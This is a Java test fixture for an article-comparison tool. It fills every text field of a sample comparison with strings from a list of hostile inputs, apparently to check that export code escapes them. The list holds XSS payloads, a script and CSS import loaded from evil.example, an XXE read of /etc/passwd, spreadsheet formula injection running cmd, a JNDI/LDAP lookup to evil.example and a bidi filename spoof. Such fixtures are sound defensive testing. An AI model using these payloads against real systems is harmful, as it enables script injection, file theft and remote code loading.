package crossread.export;

import crossread.model.Comparison;
import crossread.model.article.Article;
import crossread.model.article.Block;
import crossread.model.article.BlockKind;
import crossread.model.article.Metadata;
import crossread.model.article.Origin;
import crossread.model.article.Reason;
import crossread.model.article.Sentence;
import crossread.model.article.SentenceRef;
import crossread.model.article.SetAside;
import crossread.model.article.Span;
import crossread.model.article.Trust;
import crossread.model.article.Warning;
import crossread.model.fact.Coverage;
import crossread.model.fact.Fact;
import crossread.model.fact.FactKind;
import crossread.model.fact.Mention;
import crossread.model.fact.Nearest;
import crossread.model.fact.Speaker;
import crossread.model.fact.Value;
import crossread.model.link.Matching;
import crossread.model.work.Correction;
import crossread.model.work.FactAnchor;
import crossread.model.work.Label;
import crossread.model.work.Note;
import crossread.model.work.ReaderWork;
import crossread.model.work.SentenceAnchor;
import crossread.model.work.Subject;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;

/** A comparison from a stranger who put the same attack into every field that can hold text. */
public final class HostileStory {
    /** Texts that do harm where they are taken for anything but text. */
    public static final List<String> ATTACKS = List.of(
            "<script>alert(1)</script>",
            "</p></section></main><script src=//evil.example/x.js></script>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)' x='",
            "<svg/onload=alert(1)>",
            "</title><script>alert(1)</script>",
            "</style><style>@import 'https://evil.example';</style>",
            "<!--><script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
            "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><base href=//evil.example><meta http-equiv=refresh>",
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)//https://fine.example/",
            "data:text/html,<script>alert(1)</script>",
            "https://user:pass@evil.example/\" onclick=\"alert(1)",
            "[click](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example>",
            "# heading\n\n- item\n1. item\n| a | b |\n```\n<b>x</b>",
            "=HYPERLINK(\"https://evil.example\",\"click\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\u0000\u0001\u0008\u000B\u000C\u001B[31m\u007F\u0085\uFFFE\uFFFF",
            "\uD800 a lone half of a letter \uDC00",
            "\u202Etxt.exe\u202C \u2066x\u2069",
            "{0} '{'1}' %s ${jndi:ldap://evil.example/a} {{7*7}}");

    private HostileStory() {}

    /** A story in which every text is {@code attack}. */
    public static Comparison of(String attack) {
        Article one = article("A", attack);
        Article two = article("B", attack);
        SentenceRef here = new SentenceRef("A", 0);
        SentenceRef there = new SentenceRef("B", 0);
        Mention mention = new Mention(
                here,
                new Span(0, Math.min(3, attack.length())),
                FactKind.QUOTATION,
                new Value.Quotation(attack, Optional.of(attack)),
                Optional.of(new Speaker(attack, 0, Optional.empty())));
        Fact fact = new Fact(
                "f1",
                FactKind.QUOTATION,
                attack,
                mention.value(),
                new Coverage.OnlyIn("A"),
                1,
                false,
                List.of(mention),
                List.of(new Nearest(there, .4, List.of(attack))),
                Optional.of(attack));
        Correction correction = new Correction.Cut(SentenceAnchor.of(one, 0), SentenceAnchor.of(two, 0));
        Subject sentence = new Subject.OfSentence(SentenceAnchor.of(one, 0));
        Subject gone = new Subject.OfSentence(new SentenceAnchor("nowhere", attack, attack, attack));
        Subject removed = new Subject.OfArticle("nowhere", Optional.of(attack));
        Instant written = Instant.parse("2026-03-02T10:00:00Z");
        ReaderWork work = new ReaderWork(
                List.of(correction),
                List.of(),
                List.of(
                        new Note(
                                FactAnchor.of(mention, List.of(one))
                                        .<Subject>map(Subject.OfFact::new)
                                        .orElseThrow(),
                                attack,
                                written),
                        new Note(sentence, attack, written),
                        new Note(gone, attack, written),
                        new Note(removed, attack, written)),
                List.of(new Label(sentence, 1)),
                Map.of(1, attack));
        return new Comparison(
                        attack,
                        Instant.parse("2026-03-02T10:00:00Z"),
                        attack,
                        Matching.LEXICAL,
                        List.of(one, two),
                        List.of(),
                        List.of(),
                        List.of(fact),
                        List.of())
                .withReader(work);
    }

    private static Article article(String id, String attack) {
        Metadata known = new Metadata(
                Optional.of(attack),
                Optional.of(attack),
                Optional.of(attack),
                Optional.empty(),
                Optional.of(attack),
                Optional.of(attack));
        Block aside =
                Block.kept(attack, BlockKind.PARAGRAPH).setAside(SetAside.because(Reason.ADVERT, attack, Trust.ASK));
        return new Article(
                id,
                known,
                new Origin(attack, attack, 12, attack),
                List.of(Block.kept(attack, BlockKind.PARAGRAPH), aside),
                List.of(new Sentence(0, new Span(0, attack.length()), attack)),
                List.of(Warning.of(attack, attack)));
    }
}
